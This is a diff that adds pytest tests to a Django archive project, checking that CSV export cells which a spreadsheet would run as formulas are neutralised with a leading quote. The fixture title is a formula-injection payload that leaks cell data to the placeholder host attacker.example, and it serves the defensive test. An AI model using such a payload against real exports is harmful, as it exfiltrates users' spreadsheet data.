@@ -3,6 +3,7 @@
 import csv
 import datetime
 import io
+import json
 
 import lxml.html
 import pytest
@@ -10,8 +11,9 @@ from django.core.management import call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
+from archive import exports
 from archive.index import store
-from archive.models import Article
+from archive.models import Article, ArticleTopic, Mention, Person, Topic
 from tests.research_archive import build_archive
 
 BASE = "http://testserver"
@@ -188,3 +190,49 @@ def test_the_list_page_links_both_exports_with_its_filters(client, archive):
         "/articles/export.csv?person=nikolai-statkevich&date_after=2017-01-01",
         "/articles/export.jsonl?person=nikolai-statkevich&date_after=2017-01-01",
     ]
+
+
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Read more")'
+
+
+@pytest.fixture
+def formulas(make_article):
+    """An article whose title, person, topic and summary a spreadsheet would run as formulas."""
+    article = make_article(FORMULA_TITLE, "2021-03-01", body="-2+3 degrees in Minsk at noon.")
+    Mention.objects.create(article=article, person=Person.objects.create(slug="at-sign", name="@SUM(1+1)"))
+    ArticleTopic.objects.create(article=article, topic=Topic.objects.create(slug="plus", name="+1 topic"))
+    return article
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(client, formulas):
+    rows = csv_rows(client)
+
+    assert rows == [
+        {
+            "url": BASE + formulas.get_absolute_url(),
+            "published": "2021-03-01",
+            "title": "'" + FORMULA_TITLE,
+            "language": "en",
+            "persons": "'@SUM(1+1)",
+            "topics": "'+1 topic",
+            "summary": "'-2+3 degrees in Minsk at noon.",
+        }
+    ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_character_that_starts_a_formula_is_guarded_and_others_are_not(start):
+    assert exports.inert(f"{start}1+1") == f"'{start}1+1"
+    assert exports.inert(f"1+1{start}") == f"1+1{start}"
+
+
+def test_json_lines_keep_what_the_csv_guards_exactly_as_written(client, formulas):
+    (line,) = download(client, "/articles/export.jsonl").splitlines()
+    record = json.loads(line)
+
+    assert (record["title"], record["persons"][0]["name"], record["topics"][0]["name"]) == (
+        FORMULA_TITLE,
+        "@SUM(1+1)",
+        "+1 topic",
+    )
+    assert record["body"] == "-2+3 degrees in Minsk at noon."
